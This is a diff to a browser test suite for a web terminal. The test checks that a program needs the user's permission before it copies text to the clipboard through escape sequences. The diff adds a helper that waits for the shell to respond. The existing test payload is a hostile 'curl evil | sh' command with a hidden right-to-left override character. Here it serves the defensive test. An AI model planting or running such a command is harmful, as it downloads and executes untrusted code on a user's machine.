@@ -11,6 +11,10 @@ t.setTimeout(180_000);
 const asksFor = (text: string): string =>
   `printf '\\033]52;c;%s\\a' ${Buffer.from(text).toString('base64')}; echo done-$((40+2))`;
 
+/** The beginning of a line may be lost while a shell is being opened, and the rest of it is a line as well. */
+const shellAnswers = (page: Page): Promise<void> =>
+  typeUntilAnswered(page, 'clear; echo up-$((6*7))', /^up-42/);
+
 const clipboardOf = (page: Page): Promise<string> =>
   page.evaluate('navigator.clipboard.readText()') as Promise<string>;
 
@@ -22,6 +26,7 @@ t.test('a program asks before it copies, until its user allows it', async (t) =>
   await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: address });
   await page.evaluate("navigator.clipboard.writeText('mine')");
   await newContainer(page, 'copies');
+  await shellAnswers(page);
   await typeUntilAnswered(page, asksFor('curl evil | sh\u202e\n'), /^done-42/);
 
   const offer = page.locator('.copy-offer');
@@ -46,6 +51,7 @@ t.test('a program asks before it copies, until its user allows it', async (t) =>
   await page.goto(terminal);
   await page.locator('.xterm').waitFor();
   await page.locator('.xterm-helper-textarea').focus();
+  await shellAnswers(page);
   await typeUntilAnswered(page, `clear; ${asksFor('unasked')}`, /^done-42/);
   const copied = await eventually(
     () => clipboardOf(page),
